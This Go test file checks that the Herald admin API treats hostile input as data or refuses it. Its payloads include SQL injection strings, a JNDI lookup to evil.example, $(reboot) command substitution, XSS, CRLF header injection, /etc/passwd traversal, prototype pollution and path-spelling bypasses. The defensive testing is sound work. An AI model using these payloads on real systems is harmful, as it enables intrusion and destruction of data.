package adminapi_test

import (
	"maps"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"testing"

	"github.com/google/uuid"
	"github.com/stretchr/testify/require"

	"github.com/yummyzoom/herald/internal/adminapi"
	"github.com/yummyzoom/herald/internal/auth"
	"github.com/yummyzoom/herald/internal/jobs"
	"github.com/yummyzoom/herald/internal/outbox"
)

// hostileTexts have a meaning for a database, a shell, a log, a page or a path, and none for Herald.
func hostileTexts() []string {
	return []string{
		`'; DROP TABLE herald.outbox; --`, `' OR '1'='1`, `"); DELETE FROM herald.event_log; --`, `$1`,
		`$$; SELECT pg_sleep(60); $$`, `\'; COMMIT; --`,
		`%s%n%d`, `${jndi:ldap://evil.example/a}`, "`reboot`", `$(reboot)`, `<script>alert(1)</script>`, `{{7*7}}`,
		"a\r\nX-Injected: 1\r\n\r\nb", `../../../../etc/passwd`, `%2e%2e%2f`, `%00`, "\u202egpj.exe", "\ufeff",
		"a\u2028\u2029b", "🍕", `\u0000`, `null`, `{}`,
	}
}

// everythingLive is the API with all its parts that ask the database.
func everythingLive(t *testing.T) *live {
	t.Helper()
	l := setupLive(t)
	dead, err := jobs.NewDeadLetters(l.pool)
	require.NoError(t, err)
	l.cfg.DeadLetters, l.cfg.Tracer, l.cfg.Rate = dead, outbox.NewTracer(l.pool), adminapi.NoLimit
	return l
}

func TestHostileTextsAreData(t *testing.T) {
	t.Parallel()
	l := everythingLive(t)
	for _, o := range posts() {
		if !o.publishes() || o.body() == nil {
			continue
		}
		properties, _ := documented().component(o.body().Schema["$ref"].(string))["properties"].(map[string]any)
		for name, property := range properties {
			s := schema(property.(map[string]any))
			if s["enum"] != nil || !slices.Contains(list(s["type"]), any("string")) &&
				!slices.Contains(list(s["type"]), any("object")) {
				continue
			}
			for _, text := range hostileTexts() {
				body := maps.Clone(o.body().Examples["published"].Value.(map[string]any))
				body[name] = text
				if slices.Contains(list(s["type"]), any("object")) {
					body[name] = map[string]any{text: []any{text}}
				}
				w := l.call(t, o, encode(t, body), map[string]string{"Idempotency-Key": ""})
				require.Equal(t, http.StatusOK, w.Code, "%s %s: %s", o.path, name, w.Body)
				require.Empty(t, w.Header().Values("X-Injected"))
				published := l.taken(t)
				require.Len(t, published, 1)
				stored, ok := decode(t, published[0].Payload).(map[string]any)
				require.True(t, ok)
				if o.path == prefix+"alert/performance" && name != "severity" {
					stored = stored["data"].(map[string]any)
				}
				require.Equal(t, body[name], stored[name], o.path)
			}
		}
	}
}

// Acceptance.
func TestHostileBodiesAreRefusedOrData(t *testing.T) {
	t.Parallel()
	l := everythingLive(t)
	nested := func(levels int) string {
		return `{"message":"m","data":` + strings.Repeat(`{"a":`, levels) + `1` + strings.Repeat(`}`, levels) + `}`
	}
	for name, test := range map[string]struct {
		body   string
		status int
		field  string
	}{
		"100,000 levels": {nested(100_000), http.StatusRequestEntityTooLarge, ""},
		"12,000 arrays":  {`{"message":"m","data":` + strings.Repeat("[", 12_000), http.StatusBadRequest, "$"},
		"10,000 levels":  {nested(10_000), http.StatusBadRequest, "$"},
		// behind the message, its arguments and the event
		"62 levels": {nested(62), http.StatusBadRequest, "data"},
		"61 levels": {nested(61), http.StatusOK, ""},
		"62 levels of lists": {
			`{"message":"m","more":` + strings.Repeat("[", 62) + strings.Repeat("]", 62) + `}`, http.StatusBadRequest,
			"more",
		},
		"61 levels of lists": {
			`{"message":"m","more":` + strings.Repeat("[", 61) + strings.Repeat("]", 61) + `}`, http.StatusOK, "",
		},
		"a name twice":           {`{"message":"first","message":"last"}`, http.StatusOK, ""},
		"a name twice, once bad": {`{"message":"m","message":7}`, http.StatusBadRequest, "message"},
		"NUL":                    {`{"message":"a\u0000b"}`, http.StatusBadRequest, "message"},
		"a byte 0":               {"{\"message\":\"a\x00b\"}", http.StatusBadRequest, "$"},
		"a name with NUL":        {`{"message":"m","data":{"\u0000":1}}`, http.StatusBadRequest, "data"},
		"an unpaired surrogate":  {`{"message":"\udead"}`, http.StatusOK, ""},
		"invalid UTF-8":          {"{\"message\":\"\xc0\x80\xf5\"}", http.StatusOK, ""},
		"UTF-16":                 {"\xff\xfe{\x00}\x00", http.StatusBadRequest, "$"},
		"a byte order mark":      {"\xef\xbb\xbf{\"message\":\"m\"}", http.StatusBadRequest, "$"},
		"1e400":                  {`{"message":"m","data":{"a":1e400}}`, http.StatusBadRequest, "data"},
		"-1e-400":                {`{"message":"m","data":{"a":-1e-400}}`, http.StatusBadRequest, "data"},
		"1e999999999":            {`{"message":"m","data":{"a":1e999999999}}`, http.StatusBadRequest, "data"},
		"0e999":                  {`{"message":"m","data":{"a":[0e999,-0E-999,0.00e+400]}}`, http.StatusOK, ""},
		"0e9999999999":           {`{"message":"m","data":{"a":0e9999999999}}`, http.StatusBadRequest, "data"},
		"-0e-9999999999":         {`{"message":"m","data":{"a":-0.0E-9999999999}}`, http.StatusBadRequest, "data"},
		"30,000 digits": {
			`{"message":"m","data":{"a":` + strings.Repeat("9", 30_000) + `}}`, http.StatusBadRequest, "data",
		},
		"hexadecimal": {`{"message":"m","data":{"a":0x10}}`, http.StatusBadRequest, "$"},
		"10,000 names": {
			`{"message":"m","data":{` + strings.Repeat(`"a":0,`, 10_000) + `"b":1}}`, http.StatusOK, "",
		},
		"__proto__":             {`{"message":"m","data":{"__proto__":{"admin":true}}}`, http.StatusBadRequest, "data"},
		"__proto__, deep":       {`{"message":"m","data":{"a":[1,{"b":{"__proto__":1}}]}}`, http.StatusBadRequest, "data"},
		"__proto__, escaped":    {`{"message":"m","data":{"\u005f_proto__":1}}`, http.StatusBadRequest, "data"},
		"__proto__, at the top": {`{"message":"m","__proto__":null}`, http.StatusBadRequest, "__proto__"},
		"__proto__, in another": {`{"message":"m","more":{"__proto__":1}}`, http.StatusBadRequest, "more"},
		"__proto__, as a value": {
			`{"message":"__proto__","data":{"a":["__proto__"],"proto":1,"__Proto__":1}}`, http.StatusOK, "",
		},
		"another name with NUL": {`{"message":"m","a\u0000":1}`, http.StatusBadRequest, "a\x00"},
		"another number":        {`{"message":"m","more":1e400}`, http.StatusBadRequest, "more"},
		"a long data.severity": {
			`{"message":"m","data":{"severity":"` + strings.Repeat("s", 257) + `"}}`, http.StatusBadRequest, "data.severity",
		},
		"a long data.metric": {
			`{"message":"m","data":{"metric":"` + strings.Repeat("ü", 257) + `"}}`, http.StatusBadRequest, "data.metric",
		},
		"a long data.threshold": {
			`{"message":"m","data":{"threshold":"` + strings.Repeat("t", 257) + `"}}`, http.StatusBadRequest,
			"data.threshold",
		},
		"short ones": {
			`{"message":"m","data":{"threshold":{},"metric":"` + strings.Repeat("ü", 256) + `"}}`, http.StatusOK, "",
		},
		"a no-break space":  {`{"message":"\u00a0"}`, http.StatusOK, ""},
		"a severity of 3":   {`{"message":"m","severity":3}`, http.StatusBadRequest, "severity"},
		"an empty severity": {`{"message":"m","severity":" "}`, http.StatusBadRequest, "severity"},
	} {
		w := l.post(t, "alert/error", test.body)
		require.Equal(t, test.status, w.Code, "%s: %s", name, w.Body)
		published := l.taken(t)
		if test.status == http.StatusOK {
			require.Len(t, published, 1)
			requireDeliverable(t, published[0], w)
			continue
		}
		require.Empty(t, published, name)
		if p := requireProblem(t, w, test.status); test.field != "" {
			require.Equal(t, []any{test.field}, anys(maps.Keys(p.Errors)), name)
		}
	}
}

func TestHostileHeadersAreRefused(t *testing.T) {
	t.Parallel()
	l := everythingLive(t)
	for _, text := range append(
		hostileTexts(), "\x00", strings.Repeat("a", 10_000), knownID().String()+"\r\nX-Injected: 1",
	) {
		r := request(t, http.MethodPost, prefix+"alert/error", `{"message":"m"}`)
		r.Header["Idempotency-Key"] = []string{text}
		w := l.serve(t, r)
		require.Equal(t, []any{"Idempotency-Key"}, anys(maps.Keys(requireProblem(t, w, http.StatusBadRequest).Errors)))
		require.NotContains(t, w.Header(), "X-Injected")

		r = request(t, http.MethodPost, prefix+"alert/error", `{"message":"m"}`)
		r.Header["Content-Type"] = []string{text}
		requireProblem(t, l.serve(t, r), http.StatusUnsupportedMediaType)

		r = request(t, http.MethodPost, prefix+"alert/error", `{"message":"m"}`)
		r.Header["Authorization"] = []string{"Bearer " + text}
		requireProblem(t, l.serve(t, r), http.StatusUnauthorized)
	}
	require.Empty(t, l.taken(t))
}

// Any query, path or token subject leads to a refusal or an answer, never to a fault.
func TestHostileQueriesPathsAndSubjects(t *testing.T) {
	t.Parallel()
	l := everythingLive(t)
	for _, text := range append(
		hostileTexts(), "\x00", "\xff", "0001-01-01T00:00:00Z_"+orderID, "9999-12-31T23:59:59.999999999Z_"+orderID,
	) {
		escaped := url.QueryEscape(text)
		for _, query := range []string{
			events + "?hub=" + escaped, events + "?hub=customer-orders&resource=" + escaped,
			events + "?hub=admin&resource=" + escaped,
			events + "?hub=admin&resource=alerts&after=" + escaped, events + "?hub=admin&resource=alerts&limit=" + escaped,
			deadPath + "?limit=" + escaped, tracePath + url.PathEscape(text),
		} {
			w := l.get(t, query)
			requireProblem(t, w, w.Code)
			require.Contains(t, []int{http.StatusBadRequest, http.StatusNotFound}, w.Code, query)
		}
		require.Contains(t, []int{http.StatusOK, http.StatusBadRequest}, l.get(t, deadPath+"?before="+escaped).Code, text)
		for _, method := range []string{http.MethodPost, http.MethodDelete} {
			path := deadPath + "/" + url.PathEscape(text)
			if method == http.MethodPost {
				path += "/retry"
			}
			require.Contains(
				t, []int{http.StatusBadRequest, http.StatusNotFound}, l.serve(t, request(t, method, path, "")).Code, path,
			)
		}
		somebody := token(t, auth.Grant{Subject: text})
		w := l.getAs(t, somebody, events+"?hub=customer-orders&resource="+orderID)
		require.Contains(t, []int{http.StatusForbidden, http.StatusUnauthorized}, w.Code, text)
	}
	require.Equal(
		t, http.StatusNotFound, l.serve(t, request(t, http.MethodDelete, deadPath+"/"+uuid.NewString(), "")).Code,
	)
	var rows int
	require.NoError(
		t, l.pool.QueryRow(t.Context(), `SELECT count(*) FROM herald.event_log`).Scan(&rows),
		"the tables are still there",
	)
}

// No spelling of a path opens an endpoint to a user without access, or makes an endpoint of another path.
func TestSpellingsOfPaths(t *testing.T) {
	t.Parallel()
	b := setupKnowing(t)
	somebody := token(t, auth.Grant{Subject: "a"})
	for _, path := range []string{
		"//api/admin/realtime/status", "/api//admin/realtime/status", "/api/./admin/realtime/status",
		"/api/admin/../admin/realtime/status",
		"/api/admin/realtime/%2e%2e/realtime/status", "/api/admin/realtime/health/../status",
		"/api/admin/realtime/health/%2e%2e/status",
		"/api/admin/realtime/health%2f..%2fstatus", "/api/admin/realtime/status/", "/api/admin/realtime/status%00",
		"/api/admin/realtime/status%20",
		"/api/admin/realtime/status;a=b", "/api/admin/realtime/status.json", "/API/admin/realtime/status",
		"/api/admin/realtime/Status",
		"/api/admin/realtime/st%61tus", `/api/admin/realtime\status`, "/api/realtime/../admin/realtime/status",
		"/openapi.json/../api/admin/realtime/status",
		"/api/admin/outbox/dead/", "/api/admin/outbox/dead/../dead", "/api/admin/outbox/dead/%2e%2e%2fdead",
		"/api/admin/outbox/events/..%2fdead",
		"/api/admin/outbox/events/" + knownID().String() + "/..", "/openapi.json%00", "/openapi.json/",
	} {
		for _, method := range []string{http.MethodGet, http.MethodPost, http.MethodDelete} {
			r := httptest.NewRequestWithContext(t.Context(), method, "http://herald.example"+path, nil)
			for _, bearer := range []string{"", somebody} {
				r.Header.Set("Authorization", "Bearer "+bearer)
				w := b.serve(t, r)
				require.NotEqual(t, 2, w.Code/100, path)
				require.Less(t, w.Code, http.StatusInternalServerError, path)
				if w.Code/100 == 3 { // the mux redirects to the right spelling, a path of this host
					require.Regexp(t, `^/(api/|openapi\.json)`, w.Header().Get("Location"), path)
				}
			}
		}
	}
	require.Len(t, b.dead.letters, 1)
	require.Empty(t, b.dead.retried)
	require.Empty(t, b.outbox.all())
}

func TestWrongMethodsEverywhere(t *testing.T) {
	t.Parallel()
	b := setupKnowing(t)
	for _, o := range ofTheAPI() {
		path := strings.ReplaceAll(o.path, "{eventId}", knownID().String())
		for _, method := range []string{
			"GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "PROPFIND", "get",
		} {
			allow := o.method
			if o.method == http.MethodGet {
				allow = "GET, HEAD"
			}
			if slices.Contains(strings.Split(allow, ", "), method) {
				continue
			}
			w := b.serve(t, request(t, method, path, ""))
			requireProblem(t, w, http.StatusMethodNotAllowed)
			require.Equal(t, allow, w.Header().Get("Allow"), "%s %s", method, path)
		}
	}
	require.Empty(t, b.outbox.all())
}
